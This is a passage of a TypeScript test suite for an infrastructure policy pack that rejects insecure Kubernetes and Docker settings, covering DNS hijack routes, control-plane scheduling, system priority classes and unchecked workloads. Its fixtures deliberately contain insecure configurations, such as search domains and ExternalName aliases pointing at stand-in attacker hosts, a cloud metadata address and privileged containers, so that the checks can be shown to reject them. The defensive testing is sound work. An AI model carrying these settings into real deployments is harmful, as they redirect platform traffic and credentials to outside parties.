            "nginx.ingress.kubernetes.io/global-rate-limit-key": "${remote_addr}",
            "nginx.ingress.kubernetes.io/whitelist-source-range": "10.0.0.0/8, 192.168.0.0/16",
            "cert-manager.io/cluster-issuer": "letsencrypt-prod",
            "example.com/note": "free text; {\"json\": true}",
        });
        expect(await messages("ingress-no-snippets", [fine, ...prodStack()])).toEqual([]);
    });

    it("rejects a controller ConfigMap that switches annotation validation off or admits Critical-risk annotations", async () => {
        const cm: TestResource = { type: "kubernetes:core/v1:ConfigMap", name: "ingress-nginx-controller",
            props: { metadata: { name: "ingress-nginx-controller", namespace: "ingress-nginx" }, data: { "enable-annotation-validation": "false", "annotations-risk-level": "Critical" } } };
        const tail = ": ingress-nginx reads it as its configuration, and runs that configuration with a token that can read every Secret (CVE-2021-25742); leave snippets off.";
        expect(await messages("ingress-no-snippets", [cm])).toEqual([
            `ConfigMap "ingress-nginx-controller" sets enable-annotation-validation: "false" (annotation values reach nginx.conf unchecked)${tail}`,
            `ConfigMap "ingress-nginx-controller" sets annotations-risk-level: Critical (every Ingress may carry snippets again)${tail}`,
        ]);
        const defaults = edit(cm, (p) => { p.data = { "enable-annotation-validation": "true", "annotations-risk-level": "High" }; });
        expect(await messages("ingress-no-snippets", [defaults])).toEqual([]);
    });
});

describe("no-control-plane-scheduling", () => {
    const fix = ": application pods stay off the control-plane nodes (etcd and the API server's keys are a container escape away there). " +
        "Remove the toleration (or give it the key of the taint it is for) and leave nodeName unset; select worker nodes with nodeSelector or affinity.";

    it("passes the platform's pods and tolerations of other taints (a dedicated worker pool, the not-ready grace period)", async () => {
        const tolerant = deployment("api-gateway", 3001, { spec: { tolerations: [
            { key: "dedicated", operator: "Equal", value: "trading", effect: "NoSchedule" },
            { key: "node.kubernetes.io/not-ready", operator: "Exists", effect: "NoExecute", tolerationSeconds: 300 },
            { key: UNKNOWN, operator: "Exists" },
        ] } });
        expect(await messages("no-control-plane-scheduling", [...prodStack(), tolerant])).toEqual([]);
    });

    it("rejects control-plane and master tolerations, a toleration without a key, and nodeName, in every pod-bearing kind", async () => {
        const onControlPlane = deployment("api-gateway", 3001, { spec: { tolerations: [
            { key: "node-role.kubernetes.io/control-plane", operator: "Exists", effect: "NoSchedule" },
            { key: "node-role.kubernetes.io/master", operator: "Equal", value: "", effect: "NoSchedule" },
            { operator: "Exists" },
            { operator: "Exists", effect: "NoSchedule" },
        ], nodeName: "cp-1" } });
        const kinds = asEveryPodKind(onControlPlane);
        const found = await messages("no-control-plane-scheduling", kinds);
        expect(found).toHaveLength(5 * kinds.length);
        const cronJob = kinds.find((r) => r.type === "kubernetes:batch/v1:CronJob")!;
        expect(await messages("no-control-plane-scheduling", [cronJob])).toEqual([
            `CronJob "api-gateway-cronjob" tolerations[0] tolerates the control-plane taint node-role.kubernetes.io/control-plane${fix}`,
            `CronJob "api-gateway-cronjob" tolerations[1] tolerates the control-plane taint node-role.kubernetes.io/master${fix}`,
            `CronJob "api-gateway-cronjob" tolerations[2] has no key (operator Exists), which tolerates every taint, the control plane's included${fix}`,
            `CronJob "api-gateway-cronjob" tolerations[3] has no key (operator Exists, effect NoSchedule), which tolerates every taint of that effect, the control plane's included${fix}`,
            `CronJob "api-gateway-cronjob" sets nodeName "cp-1", which runs the pod on that node past the scheduler and every NoSchedule taint${fix}`,
        ]);
        for (const r of kinds) expect(found.filter((m) => m.startsWith(`${r.type.split(":").pop()} "${r.name}" `)), r.name).toHaveLength(5);
    });
});

// Session 40's configuration hunt: a pod in the cluster's own priority classes, or a PriorityClass made
// every namespace's default, passed the whole pack.
describe("no-system-priority", () => {
    const fix = ". Leave priorityClassName unset (or name a class of the platform's own, with a value below the system classes').";
    const why = ", the cluster's own class for its critical components: its pods preempt every application pod of the cluster to be placed, and are evicted last when a node runs short";
    const priorityClass = (name: string, globalDefault: unknown, version = "v1"): TestResource => ({
        type: `kubernetes:scheduling.k8s.io/${version}:PriorityClass`, name: `${name}-priorityclass`,
        props: { apiVersion: `scheduling.k8s.io/${version}`, kind: "PriorityClass", metadata: { name }, value: 1000, globalDefault },
    });

    it("passes the platform's pods, a class of its own, and a PriorityClass that is no default or unknown during preview", async () => {
        const own = deployment("api-gateway", 3001, { spec: { priorityClassName: "trading-critical" } });
        const unknown = deployment("risk-analyzer", 8020, { spec: { priorityClassName: UNKNOWN } });
        expect(await messages("no-system-priority", [...prodStack(), own, unknown, priorityClass("trading-critical", false), priorityClass("trading-batch", UNKNOWN)])).toEqual([]);
    });

    it("rejects system-node-critical and system-cluster-critical in every pod-bearing kind, and a PriorityClass with globalDefault true", async () => {
        const kinds = asEveryPodKind(deployment("api-gateway", 3001, { spec: { priorityClassName: "system-node-critical" } }));
        const found = await messages("no-system-priority", kinds);
        expect(found).toHaveLength(kinds.length);
        for (const r of kinds) expect(found, r.name).toContain(`${r.type.split(":").pop()} "${r.name}" sets priorityClassName "system-node-critical"${why}${fix}`);
        const cluster = deployment("risk-analyzer", 8020, { spec: { priorityClassName: "system-cluster-critical" } });
        expect(await messages("no-system-priority", [cluster, priorityClass("everything-first", true), priorityClass("old", true, "v1beta1")])).toEqual([
            `Deployment "risk-analyzer-deployment" sets priorityClassName "system-cluster-critical"${why}${fix}`,
            ...["everything-first-priorityclass", "old-priorityclass"].map((n) => `PriorityClass "${n}" sets globalDefault: true, so every pod created without a class in any namespace ` +
                "of the cluster, not only the platform's, takes its priority. Set globalDefault false and name the class in the platform's pods."),
        ]);
    });
});

describe("cluster-dns-only", () => {
    const fix = ", so its lookups escape DNS-based egress policy and the cluster's DNS logs, and the platform's names can be pointed elsewhere. " +
        "Leave dnsPolicy at ClusterFirst without nameservers of its own (a cluster resolver's address goes in the policy's clusterNameservers) and drop the alias: " +
        "the platform's names resolve through the cluster DNS.";

    it("passes the platform's pods, dnsConfig options alone, a listed cluster resolver, and aliases of outside names", async () => {
        const tuned = deployment("api-gateway", 3001, { spec: {
            dnsPolicy: "ClusterFirst", dnsConfig: { options: [{ name: "ndots", value: "2" }] },
            hostAliases: [{ ip: "203.0.113.7", hostnames: ["api.partner.example.com"] }],
        } });
        // (Session 45: dnsPolicy None needs an ndots of at least 2, as the cluster's own 5 here.)
        const ownResolver = deployment("risk-analyzer", 8020, { spec: { dnsPolicy: "None", dnsConfig: {
            nameservers: ["10.96.0.10"], searches: ["ai-trading.svc.cluster.local"], options: [{ name: "ndots", value: "5" }],
        } } });
        const cfg = { all: "mandatory" as const, "cluster-dns-only": { clusterNameservers: ["10.96.0.10"] } };
        expect(await messages("cluster-dns-only", [...prodStack(), tuned, dockerService(), ownResolver], cfg)).toEqual([]);
    });

    it("rejects dnsPolicy None or extra nameservers outside the cluster, dnsPolicy Default, and aliases of the cluster's, the platform's and the metadata names", async () => {
        const none = deployment("api-gateway", 3001, { spec: { dnsPolicy: "None", dnsConfig: { nameservers: ["8.8.8.8", "2001:4860:4860::8888"], options: [{ name: "ndots", value: "5" }] } } });
        const extra = deployment("risk-analyzer", 8020, { spec: { dnsConfig: { nameservers: ["10.96.0.10"] } } });
        const nodeDns = edit(backupCronJob("postgres", "postgres:16.4-bookworm", 999), (p) => { p.spec.jobTemplate.spec.template.spec.dnsPolicy = "Default"; });
        const aliases = deployment("trading-engine", 9000, { spec: { hostAliases: [
            { ip: "203.0.113.9", hostnames: ["postgres", "api.binance.com"] },
            { ip: "203.0.113.9", hostnames: ["postgres.ai-trading", "kubernetes.default.svc", "redpanda.ai-trading.svc.cluster.local.", "metadata.google.internal", "localhost"] },
        ] } });
        const docker = dockerService("api-gateway", { hosts: [{ host: "postgres", ip: "203.0.113.9" }, { host: "example.org", ip: "203.0.113.10" }] });
        expect(await messages("cluster-dns-only", [none, extra, nodeDns, aliases, docker])).toEqual([
            `Deployment "api-gateway-deployment" sets dnsPolicy: None and resolves names through 8.8.8.8, 2001:4860:4860::8888, past the cluster DNS${fix}`,
            `Deployment "risk-analyzer-deployment" adds dnsConfig.nameservers, so it resolves names through 10.96.0.10, past the cluster DNS${fix}`,
            `CronJob "postgres-backup-cronjob" sets dnsPolicy: Default, so it resolves names through the node's resolvers, past the cluster DNS${fix}`,
            `Deployment "trading-engine-deployment" hostAliases[0] binds postgres to 203.0.113.9, past the cluster DNS${fix}`,
            "Deployment \"trading-engine-deployment\" hostAliases[1] binds postgres.ai-trading, kubernetes.default.svc, redpanda.ai-trading.svc.cluster.local., " +
                `metadata.google.internal, localhost to 203.0.113.9, past the cluster DNS${fix}`,
            `Container "api-gateway-container" hosts[0] binds postgres to 203.0.113.9, past the cluster DNS${fix}`,
        ]);
    });
});

// Session 45's policy hunt: the resolver's ndots (Kubernetes dnsConfig.options, Docker dnsOpts) was not judged: low
// on Kubernetes, the platform's names are asked of the outside resolvers first; above 0 on Docker, names are tried
// under the host's search domains (out of sight, often DHCP's) first.
describe("cluster-dns-only: ndots (session 45)", () => {
    const k8sFix = ". Leave ndots alone (the cluster's 5, the Docker embedded DNS's 0) or, on Kubernetes, no lower than 2; " +
        "on Docker, a container that needs one declares its search domains in dnsSearches.";
    const outside = "is first asked as it stands, which the cluster DNS forwards to the resolvers outside: the platform's names leak there, and one under a " +
        "namespace named as a public TLD (app, dev, trading) is answered by whoever registered it";
    const dotted = `a name with a dot (postgres.ai-trading, a Service of another namespace) ${outside}`;
    const withOptions = (workload: string, port: number, options: unknown[], extra: Record<string, unknown> = {}) =>
        deployment(workload, port, { spec: { dnsConfig: { options }, ...extra } });

    it("rejects ndots below 2 on Kubernetes (0, 1, no value, not a number, dnsPolicy None without it) and above 0 on Docker without search domains of its own", async () => {
        const rs = [
            withOptions("api-gateway", 3001, [{ name: "ndots", value: "5" }, { name: "timeout", value: "2" }, { name: "ndots", value: "1" }]),
            withOptions("risk-analyzer", 8020, [{ name: "ndots", value: "0" }]),
            withOptions("trading-engine", 9000, [{ name: "ndots" }]),
            withOptions("central-hub", 7000, [{ name: "ndots", value: "two" }]),
            deployment("order-management", 3001, { spec: { dnsPolicy: "None", dnsConfig: { nameservers: ["10.96.0.10"], searches: ["ai-trading.svc.cluster.local"] } } }),
            dockerService("api-gateway", { dnsOpts: ["timeout:2", "ndots:5"] }),
        ];
        const cfg = { all: "mandatory" as const, "cluster-dns-only": { clusterNameservers: ["10.96.0.10"] } };
        expect(await messages("cluster-dns-only", rs, cfg)).toEqual([
            `Deployment "api-gateway-deployment" sets dnsConfig.options ndots:1, so ${dotted}${k8sFix}`,
            `Deployment "risk-analyzer-deployment" sets dnsConfig.options ndots:0, so every name, a single label such as postgres included, ${outside}${k8sFix}`,
            `Deployment "trading-engine-deployment" sets dnsConfig.options ndots without a value (which the resolver ignores, so its default ndots 1 applies), so ${dotted}${k8sFix}`,
            `Deployment "central-hub-deployment" sets dnsConfig.options ndots:two, not a whole number (glibc reads 0), so every name, a single label such as postgres included, ${outside}${k8sFix}`,
            `Deployment "order-management-deployment" sets dnsPolicy: None without an ndots option (the resolver's default ndots 1), so ${dotted}${k8sFix}`,
            "Container \"api-gateway-container\" sets dnsOpts ndots:5 without search domains of its own, so a name with fewer dots (a peer such as postgres, api.binance.com) is first " +
            "looked up under the host's search domains (copied from its resolv.conf, out of the pack's sight, often handed out by DHCP), whose holder answers with an address " +
            `of their choosing${k8sFix}`,
        ]);
    });

    it("passes the cluster's ndots, 2 or more, other options, Docker's ndots:0 or ndots with its own search domains, and values unknown during preview", async () => {
        const rs = [
            withOptions("api-gateway", 3001, [{ name: "ndots", value: "2" }, { name: "timeout", value: "1" }, { name: "attempts", value: "5" }, { name: "single-request-reopen" }]),
            withOptions("risk-analyzer", 8020, [{ name: "ndots", value: UNKNOWN }]),
            withOptions("trading-engine", 9000, [{ name: "ndots", value: "1" }, { name: "ndots", value: "5" }]),
            deployment("order-management", 3001, { spec: { dnsPolicy: "None", dnsConfig: { nameservers: ["10.96.0.10"], options: [{ name: "ndots", value: "3" }] } } }),
            dockerService("api-gateway", { dnsOpts: ["ndots:0", "timeout:2", "attempts:3", "rotate", "edns0"] }),
            dockerService("risk-analyzer", { dnsOpts: ["ndots:2"], dnsSearches: ["corp.example.com"] }),
            dockerService("trading-engine", { dnsOpts: [UNKNOWN] }),
        ];
        const cfg = { all: "mandatory" as const, "cluster-dns-only": { clusterNameservers: ["10.96.0.10"], allowedSearchDomains: ["corp.example.com"] } };
        expect(await messages("cluster-dns-only", [...prodStack(), ...rs], cfg)).toEqual([]);
    });
});

// Session 44's policy hunt: dnsConfig.searches (Docker dnsSearches) naming an outside domain let whoever
// holds it answer for the names tried under it (on Kubernetes, every name with fewer than five dots, first),
// and Docker dns servers sent every name the embedded DNS does not hold to an outside resolver.
describe("cluster-dns-only: search domains and Docker dns servers (session 44)", () => {
    const searchFix = ". Drop the search domain and name outside hosts in full (a zone the operator holds goes in the policy's allowedSearchDomains).";
    const dnsFix = ", so its lookups escape DNS-based egress control and logging, and an outside server answers for every name. " +
        "Drop dns and let the engine use the host's resolvers (a resolver the operator runs goes in the policy's clusterNameservers).";
    const searching = deployment("api-gateway", 3001, { spec: { dnsConfig: { searches: ["ai-trading.svc.cluster.local", "corp.example.com", "attacker.example.net."] } } });
    const none = edit(backupCronJob("postgres", "postgres:16.4-bookworm", 999), (p) => {
        p.spec.jobTemplate.spec.template.spec.dnsPolicy = "None";
        // (Session 45: with dnsPolicy None, an ndots of at least 2.)
        p.spec.jobTemplate.spec.template.spec.dnsConfig = { nameservers: ["10.96.0.10"], searches: ["svc.cluster.local", "example.org"], options: [{ name: "ndots", value: "5" }] };
    });
    const docker = dockerService("api-gateway", { dns: ["8.8.8.8", "1.1.1.1"], dnsSearches: ["attacker.example.net"] });
    const resolverCfg = { "cluster-dns-only": { clusterNameservers: ["10.96.0.10"] } };

    it("rejects a search domain outside the cluster's on both targets (CronJob templates included) and Docker dns servers not listed", async () => {
        expect(await messages("cluster-dns-only", [searching, none, docker], { all: "mandatory", ...resolverCfg })).toEqual([
            "Deployment \"api-gateway-deployment\" sets dnsConfig.searches corp.example.com, attacker.example.net., outside the cluster's domains, so every name with fewer " +
                `than five dots (api.binance.com, a peer that is switched off) is first looked up under that domain, whose holder answers with an address of their choosing${searchFix}`,
            "CronJob \"postgres-backup-cronjob\" sets dnsConfig.searches example.org, outside the cluster's domains, so every name with fewer " +
                `than five dots (api.binance.com, a peer that is switched off) is first looked up under that domain, whose holder answers with an address of their choosing${searchFix}`,
            `Container "api-gateway-container" sets dns 8.8.8.8, 1.1.1.1, so the engine's embedded DNS forwards every name it does not hold there, past the host's resolvers${dnsFix}`,
            "Container \"api-gateway-container\" sets dnsSearches attacker.example.net, so a name the embedded DNS does not find (a peer that is down or switched off, a typo) " +
                `is looked up under that domain, whose holder answers with an address of their choosing${searchFix}`,
        ]);
    });

    it("passes the cluster's own search domains, listed ones, a listed resolver on Docker, and values unknown during preview", async () => {
        const cfg = { all: "mandatory" as const, "cluster-dns-only": { clusterNameservers: ["10.96.0.10", "192.168.50.2"], allowedSearchDomains: ["corp.example.com", "attacker.example.net", "example.org"] } };
        expect(await messages("cluster-dns-only", [searching, none, dockerService("api-gateway", { dns: ["192.168.50.2"], dnsSearches: ["corp.example.com"] })], cfg)).toEqual([]);
        const own = deployment("api-gateway", 3001, { spec: { dnsConfig: { searches: ["ai-trading.svc.cluster.local", "svc.cluster.local", "cluster.local"] } } });
        expect(await messages("cluster-dns-only", [own, dockerService("api-gateway", { dns: UNKNOWN, dnsSearches: [UNKNOWN] })])).toEqual([]);
        // A look-alike of the cluster's domain is not it.
        const lookAlike = deployment("api-gateway", 3001, { spec: { dnsConfig: { searches: ["evilcluster.local.example.net"] } } });
        expect(summary(await runPack([lookAlike], "prod", { only: ["cluster-dns-only"] }))).toEqual(["cluster-dns-only api-gateway-deployment"]);
    });
});

// Session 44's policy hunt: an ExternalName Service is a CNAME the cluster DNS serves every pod; under a
// platform name (postgres) it sent the platform's clients, and their credentials, wherever it pointed.
describe("cluster-dns-only: ExternalName Services (session 44)", () => {
    const fix = ": the platform's clients (and their credentials) follow the alias. Give the platform's names to Services selecting the platform's pods, " +
        "and name an outside host in full where it is used.";
    const alias = (name: string, externalName: unknown): TestResource => ({
        type: "kubernetes:core/v1:Service", name: `${name}-service`,
        props: { apiVersion: "v1", kind: "Service", metadata: { name, namespace: "ai-trading" }, spec: { type: "ExternalName", externalName } },
    });

    it("rejects one under a platform name, or aliasing a cloud metadata host or an address", async () => {
        expect(await messages("cluster-dns-only", [alias("postgres", "db.attacker.example.net"), alias("prometheus", UNKNOWN),
            alias("metadata-alias", "metadata.google.internal."), alias("node-alias", "169.254.169.254")])).toEqual([
            `Service "postgres-service" is of type ExternalName under the platform name "postgres", so every pod asking for postgres is sent to db.attacker.example.net, past the cluster DNS${fix}`,
            `Service "prometheus-service" is of type ExternalName under the platform name "prometheus", so every pod asking for prometheus is sent to a name computed during preview, past the cluster DNS${fix}`,
            `Service "metadata-alias-service" points its ExternalName at the cloud metadata host metadata.google.internal.${fix}`,
            `Service "node-alias-service" points its ExternalName at the address 169.254.169.254, which no selector judges${fix}`,
        ]);
    });

    it("passes an ExternalName of another name to an outside host, and the platform's own Services", async () => {
        expect(await messages("cluster-dns-only", [alias("partner-api", "api.partner.example.com"), ...prodStack()])).toEqual([]);
    });
});

describe("non-root-groups", () => {
    it("passes non-zero groups", async () => {
        expect(await messages("non-root-groups", [...prodStack(), dockerService()])).toEqual([]);
    });

    it("rejects group 0 on both targets", async () => {
        const d = deployment("api-gateway", 3001, { spec: { securityContext: { runAsNonRoot: true, runAsGroup: 0, fsGroup: 0, supplementalGroups: [0] } } });
        d.props.spec.template.spec.containers[0].securityContext.runAsGroup = 0;
        const docker = dockerService("api-gateway", { user: "10001:0", groupAdds: ["docker", "disk"] });
        expect(await messages("non-root-groups", [d, docker])).toEqual([
            "Deployment \"api-gateway-deployment\" pod sets runAsGroup: 0; use the image's own non-root group id (runAsGroup/fsGroup != 0).",
            "Deployment \"api-gateway-deployment\" pod sets fsGroup: 0; use the image's own non-root group id (runAsGroup/fsGroup != 0).",
            "Deployment \"api-gateway-deployment\" pod lists group 0 in supplementalGroups; use the image's own non-root group id (runAsGroup/fsGroup != 0).",
            "Deployment \"api-gateway-deployment\" container \"api-gateway\" sets runAsGroup: 0; use the image's own non-root group id (runAsGroup/fsGroup != 0).",
            "Container \"api-gateway-container\" runs with the root group (user \"10001:0\"); use the image's own non-root group id (user \"uid:gid\" with gid != 0).",
            "Container \"api-gateway-container\" adds the group \"docker\" (groupAdds); use the image's own non-root group id (user \"uid:gid\" with gid != 0).",
            "Container \"api-gateway-container\" adds the group \"disk\" (groupAdds); use the image's own non-root group id (user \"uid:gid\" with gid != 0).",
        ]);
    });
});

describe("selectors-match-workloads (stack)", () => {
    it("passes the compliant stack", async () => {
        expect(await messages("selectors-match-workloads", prodStack())).toEqual([]);
    });

    it("reports a Service, NetworkPolicy and PDB selecting nothing, a StatefulSet without its headless Service, an HPA without target", async () => {
        let rs = replace(prodStack(), "api-gateway-service", (p) => { p.spec.selector = { "trading.io/workload": "api-gateway-typo" }; });
        rs = replace(rs, "api-gateway-pdb", (p) => { p.spec.selector.matchLabels["trading.io/workload"] = "gateway"; });
        rs = replace(rs, "clickhouse-netpol", (p) => { p.spec.podSelector.matchLabels["trading.io/workload"] = "click-house"; });
        rs = replace(rs, "prometheus-headless-service", (p) => { delete p.spec.clusterIP; });
        rs = rs.filter((r) => r.name !== "postgres-headless-service");
        rs.push(hpa("order-management", 2));
        expect(summary(await runPack(rs, "prod", { only: ["selectors-match-workloads"] }))).toEqual([
            "selectors-match-workloads api-gateway-pdb",
            "selectors-match-workloads api-gateway-service",
            "selectors-match-workloads clickhouse-netpol",
            "selectors-match-workloads order-management-hpa",
            "selectors-match-workloads postgres-statefulset",
            "selectors-match-workloads prometheus-headless-service",
        ]);
        const ms = await messages("selectors-match-workloads", rs);
        expect(ms).toContain("Service \"api-gateway\" selects no pod in namespace \"ai-trading\" (selector {\"trading.io/workload\":\"api-gateway-typo\"}); it would have no endpoints: match a workload's pod labels.");
        expect(ms).toContain("StatefulSet \"postgres\" names the Service \"postgres-headless\", which the stack does not declare in namespace \"ai-trading\"; add it (clusterIP: None).");
        expect(ms).toContain("Service \"prometheus-headless\" governs StatefulSet \"prometheus\" but is not headless; set clusterIP: None.");
        expect(ms).toContain("HorizontalPodAutoscaler \"order-management\" scales Deployment \"order-management\", which the stack does not declare in namespace \"ai-trading\"; point scaleTargetRef at the workload.");
    });

    it("skips selectors computed during preview", async () => {
        const rs = replace(prodStack(), "api-gateway-service", (p) => { p.spec.selector = { "trading.io/workload": UNKNOWN }; });
        expect(await messages("selectors-match-workloads", rs)).toEqual([]);
    });
});

// Session 45's policy hunt: two scalers on one workload (two HPAs, an HPA and a KEDA ScaledObject) fight over its
// replica count, and the availability policies judged the first declared one's floor only.
describe("selectors-match-workloads: two scalers on one workload (session 45)", () => {
    const scaledObject = (name: string, target: string, extra: Record<string, unknown> = {}): TestResource => ({
        type: "kubernetes:keda.sh/v1alpha1:ScaledObject", name: `${name}-scaledobject`,
        props: { apiVersion: "keda.sh/v1alpha1", kind: "ScaledObject", metadata: { name, namespace: NS },
            spec: { scaleTargetRef: { name: target, ...extra }, minReplicaCount: 2, triggers: [{ type: "cpu", metricType: "Utilization", metadata: { value: "70" } }] } },
    });
    const second = edit(hpa("api-gateway", 1), (p) => { p.metadata.name = "api-gateway-memory"; });
    second.name = "api-gateway-memory-hpa";
    const fight = (who: string, first: string) => `${who} scales Deployment "api-gateway" in namespace "${NS}", which ${first} scales already: each sets the replica count to its ` +
        "own figure on every sync, so they fight over it (pods started and stopped), and the replica floor the pack judges is the first one's only. " +
        "Keep one scaler per workload (one HPA with every metric, or one ScaledObject with every trigger).";

    it("rejects a second HPA or a ScaledObject on a workload an HPA scales, and a ScaledObject scaling nothing declared", async () => {
        const rs = [...prodStack(), hpa("api-gateway", 2), second, scaledObject("gateway-events", "api-gateway"), scaledObject("ghost", "order-management")];
        expect(await messages("selectors-match-workloads", rs)).toEqual([
            `ScaledObject "ghost" scales Deployment "order-management", which the stack does not declare in namespace "${NS}"; point scaleTargetRef at the workload.`,
            fight("HorizontalPodAutoscaler \"api-gateway-memory\"", "HorizontalPodAutoscaler \"api-gateway\""),
            fight("KEDA ScaledObject \"gateway-events\"", "HorizontalPodAutoscaler \"api-gateway\""),
        ]);
        expect((await runPack(rs, "dev", { only: ["selectors-match-workloads"] })).map((v) => v.enforcementLevel)).toEqual(["advisory", "advisory", "advisory"]);
    });

    it("passes one scaler per workload, scalers of other workloads or kinds, and a target unknown during preview", async () => {
        const hub = deployment("central-hub", 7000);
        const postgres = edit(hpa("api-gateway", 2), (p) => { p.metadata.name = "postgres"; p.spec.scaleTargetRef = { apiVersion: "apps/v1", kind: "StatefulSet", name: "postgres" }; });
        postgres.name = "postgres-hpa";
        // A ScaledObject whose target is computed during preview, and a second HPA whose own kind is (judged at `up`).
        const later = edit(second, (p) => { p.spec.scaleTargetRef.kind = UNKNOWN; });
        const rs = [...prodStack(), hub, hpa("api-gateway", 2), scaledObject("hub", "central-hub"), postgres, scaledObject("later", UNKNOWN), later];
        expect(await messages("selectors-match-workloads", rs)).toEqual([]);
    });
});

describe("pod-anti-affinity (stack) and PDBs for replicated workloads", () => {
    it("passes spread constraints and preferred anti-affinity; a single replica needs neither", async () => {
        const aa = edit(deployment("central-hub", 7000), (p) => {
            delete p.spec.template.spec.topologySpreadConstraints;
            p.spec.template.spec.affinity = { podAntiAffinity: { preferredDuringSchedulingIgnoredDuringExecution: [{ weight: 100, podAffinityTerm: { topologyKey: "kubernetes.io/hostname", labelSelector: { matchLabels: { "trading.io/workload": "central-hub" } } } }] } };
        });
        expect(await messages("pod-anti-affinity", [...prodStack(), aa])).toEqual([]);
    });

    it("rejects replicated workloads (replicas or HPA floor >= 2) that may share one node; dev.json does not apply it", async () => {
        const unspread = (p: any) => { delete p.spec.template.spec.topologySpreadConstraints; };
        const rs = [
            ...replace(prodStack(), "api-gateway-deployment", unspread),
            edit(deployment("central-hub", 7000, { replicas: 1 }), unspread), hpa("central-hub", 3),
            edit(statefulSet("redpanda", "datastore", "redpanda:24.2.4", 9092, 101), (p) => { p.spec.replicas = 3; }),
        ];
        const tail = "add a podAntiAffinity term (preferred is enough) or a topologySpreadConstraint on kubernetes.io/hostname selecting its own pod labels, so one node failure cannot take every replica down.";
        expect(await messages("pod-anti-affinity", rs)).toEqual([
            `Deployment "api-gateway" runs 2 replicas that may all land on one node: ${tail}`,
            `Deployment "central-hub" runs 3 replicas that may all land on one node: ${tail}`,
            `StatefulSet "redpanda" runs 3 replicas that may all land on one node: ${tail}`,
        ]);
        expect(await messages("pod-anti-affinity", rs, "dev")).toEqual([]);
        // The replicated StatefulSet also needs a PodDisruptionBudget.
        expect(await messages("service-pod-disruption-budget", rs.filter((r) => r.name !== "central-hub-deployment" && r.name !== "central-hub-hpa"))).toEqual([
            "StatefulSet \"redpanda\" (replicated) has no PodDisruptionBudget selecting its pods in namespace \"ai-trading\"; add one (policy/v1, selector.matchLabels = its trading.io/workload label, maxUnavailable: 1).",
        ]);
        expect(find(rs, "redpanda-statefulset").props.spec.replicas).toBe(3);
    });
});

describe("no-unchecked-workloads", () => {
    it("refuses what runs containers no policy sees: a helm.sh/v3 Release, a Swarm Service, an engine Plugin", async () => {
        const release = (chart: unknown): TestResource => ({ type: "kubernetes:helm.sh/v3:Release", name: "ingress", props: { chart, namespace: NS, values: {} } });
        const helm = "where no policy of this pack checks what runs; deploy the chart with kubernetes:helm.sh/v4:Chart, whose objects the pack checks like any other.";
        expect(await messages("no-unchecked-workloads", [release("ingress-nginx"), release(UNKNOWN),
            { type: "docker:index/service:Service", name: "miner", props: { name: "miner", taskSpec: { containerSpec: { image: "x:1", privileges: {} } } } },
            { type: "docker:index/plugin:Plugin", name: "sshfs", props: { name: "vieux/sshfs:latest", grantAllPermissions: true } },
        ])).toEqual([
            `Release "ingress" installs the objects of the chart "ingress-nginx" inside the provider (Helm applies them), ${helm}`,
            `Release "ingress" installs the objects of its chart inside the provider (Helm applies them), ${helm}`,
            "Service \"miner\" runs Swarm tasks whose containers (taskSpec.containerSpec) no container policy reads, where no policy of this pack " +
            "checks what runs; declare the container as docker.Container, which every container policy checks.",
            "Plugin \"sshfs\" installs the engine plugin \"vieux/sshfs:latest\", which runs as root with the host access it is granted, where no " +
            "policy of this pack checks what runs; run what it does as a docker.Container the pack checks, or install the plugin outside the program after review.",
        ]);
    });

    it("passes the stacks' own resources and a helm.sh/v4 Chart (its objects are checked one by one)", async () => {
        expect(await messages("no-unchecked-workloads", [...prodStack(), { type: "kubernetes:helm.sh/v4:Chart", name: "ingress", props: { chart: "ingress-nginx", namespace: NS } }])).toEqual([]);
        expect(await messages("no-unchecked-workloads", [dockerService("api-gateway")], "dev")).toEqual([]);
    });
});

describe("no-unchecked-workloads: every other Kubernetes object that names an image", () => {
    const object = (type: string, name: string, spec: unknown): TestResource => ({ type, name, props: { metadata: { name, namespace: NS }, spec } });
    const tail = "which its controller runs in pods no policy of this pack checks (the pod policies read Deployments, StatefulSets, " +
        "DaemonSets, ReplicaSets, ReplicationControllers, Jobs, CronJobs and Pods of the served versions); run them from one of those.";
    const privileged = (image: unknown) => ({ containers: [{ name: "app", image, securityContext: { privileged: true } }] });

    it("refuses a custom resource or an unmatched API version that runs images, wherever its kind keeps them", async () => {
        // Nested past any pod spec's shape: the walk looks for the field, at any depth, not a path.
        // (40 levels: the engine's protobuf property bags allow no more than 100 nested messages.)
        let deep: unknown = { image: "deep:1" };
        for (let i = 0; i < 40; i++) deep = { inner: deep };
        expect(await messages("no-unchecked-workloads", [
            object("kubernetes:argoproj.io/v1alpha1:Rollout", "canary", { replicas: 3, template: { spec: privileged("ghcr.io/x/app:latest") } }),
            object("kubernetes:serving.knative.dev/v1:Service", "fn", { template: { spec: privileged(UNKNOWN) } }),
            object("kubernetes:argoproj.io/v1alpha1:Workflow", "wf", { templates: [{ name: "a", container: { image: "a:1" } }, { name: "b", script: { image: "b:1" } },
                { name: "c", container: { image: "c:1" } }, { name: "d", container: { image: "d:1" } }] }),
            object("kubernetes:apps/v1beta1:Deployment", "old", { template: { spec: privileged("old:1") } }),
            { type: "kubernetes:apps/v1:DeploymentList", name: "many", props: { items: [{ metadata: { name: "x" }, spec: { template: { spec: privileged("list:1") } } }] } },
            object("kubernetes:example.com/v1:Deep", "deep", deep),
            // A kind with a digit, and the { repository, tag } spelling of an image.
            object("kubernetes:k8ssandra.io/v1alpha1:K8ssandraCluster", "cassandra", { cassandra: { image: { repository: "evil.example.net/cassandra", tag: "latest" } } }),
        ])).toEqual([
            `Rollout "canary" names the image "ghcr.io/x/app:latest" (spec.template.spec.containers[0].image), ${tail}`,
            `Service "fn" names the image an image computed during preview (spec.template.spec.containers[0].image), ${tail}`,
            "Workflow \"wf\" names the images \"a:1\" (spec.templates[0].container.image), \"b:1\" (spec.templates[1].script.image), " +
            `"c:1" (spec.templates[2].container.image) and 1 more, ${tail}`,
            `Deployment "old" names the image "old:1" (spec.template.spec.containers[0].image), ${tail}`,
            `DeploymentList "many" names the image "list:1" (items[0].spec.template.spec.containers[0].image), ${tail}`,
            `Deep "deep" names the image "deep:1" (spec${".inner".repeat(40)}.image), ${tail}`,
            `K8ssandraCluster "cassandra" names the image "evil.example.net/cassandra:latest" (spec.cassandra.image), ${tail}`,
        ]);
    });

    it("finds image fields at any depth without recursion, and only string or unknown values", () => {
        let deep: unknown = { image: "x:1" };
        for (let i = 0; i < 100_000; i++) deep = [deep];
        expect(imageFields({ spec: deep })).toEqual([{ path: `spec${"[0]".repeat(100_000)}.image`, ref: "x:1" }]);
        // In the plain() copy a rule walks, a value unknown during preview is the UNKNOWN marker.
